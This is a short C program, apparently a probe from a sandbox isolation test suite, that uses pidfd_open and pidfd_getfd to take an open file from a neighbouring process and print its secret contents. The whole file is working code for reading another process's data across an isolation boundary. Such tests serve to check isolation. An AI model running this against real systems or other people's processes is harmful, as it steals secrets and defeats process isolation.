/* technique: takes an open file of a process of the host out of it
 * source: pidfd_getfd(2)
 * success: the neighbour's secret on the output
 * control: outside
 * beside: neighbour
 */
#include "power.h"

int main(void)
{
	int pidfd = (int)syscall(SYS_pidfd_open, neighbour(), 0);
	int fd = (int)syscall(SYS_pidfd_getfd, pidfd, neighbours_file(), 0);

	if (fd < 0)
		return failed("pidfd_getfd");
	lseek(fd, 0, SEEK_SET);
	return show(fd);
}
